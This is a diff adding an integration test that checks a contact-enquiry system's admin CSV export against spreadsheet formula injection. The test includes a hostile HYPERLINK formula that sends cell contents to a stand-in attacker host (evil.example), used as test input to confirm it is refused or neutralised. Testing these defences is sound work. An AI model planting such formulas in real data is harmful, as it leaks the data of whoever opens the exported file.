@@ -296,4 +296,44 @@ describe("the office's enquiries inbox", () => {
     expect(rows[0]?.[4]).toBe(email);
     expect(rows[0]?.[7]).toContain(`Name: ${hostile}\nEmail: ${email}`);
   });
+
+  it('keeps one row per enquiry with no live formula on any line, as the security review tried (M1)', async () => {
+    const admin = await signIn({ admin: true });
+    const email = `csv-${randomUUID()}@example.org`;
+    // The review's subject: refused, as no subject holds a line break.
+    const refused = await postJson('/api/enquiries', general({ email, subject: 'Quote please\n=1+1' }));
+    expect(refused.status).toBe(422);
+    expect(((await refused.json()) as { issues: { path: string }[] }).issues).toEqual([
+      expect.objectContaining({ path: 'subject', message: 'Subject must be on one line' }),
+    ]);
+    // A message may hold lines; each one that starts like a formula is neutralised, and the cell stays one.
+    const message =
+      'Quote please\n=HYPERLINK(CHAR(104)&"ttp://evil.example?"&E2&F2)\n+44 7700 900123\n@SUM(A1)';
+    await send(general({ email, message }));
+    await send({
+      type: 'cleaning',
+      fullName: 'Jo Bloggs',
+      telephone: '01632 960000',
+      address: '1 High Street, Potters Bar',
+      email,
+      serviceRequired: 'cleaning',
+      specialRequirements: 'Two cats\n=1+1',
+    });
+    const response = await api(`/api/admin/enquiries/export?${new URLSearchParams({ q: email })}`, {
+      headers: bearer(admin.accessToken),
+    });
+    expect(response.status).toBe(200);
+    const file = (await response.json()) as { csv: string; rows: number };
+    expect(file.rows).toBe(2);
+    // As a spreadsheet reads it: a line break outside quotes ends a record.
+    const [, ...rows] = parse(file.csv, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
+    expect(rows).toHaveLength(2);
+    for (const row of rows)
+      for (const value of row)
+        for (const line of value.split(/\r\n|\r|\n/)) expect(line, value).not.toMatch(/^[=+\-@\t]/);
+    const details = rows.map((row) => row[7] ?? '').join('\n');
+    expect(details).toContain(`'=HYPERLINK(CHAR(104)`);
+    expect(details).toContain("'+44 7700 900123");
+    expect(details).toContain("'=1+1");
+  });
 });
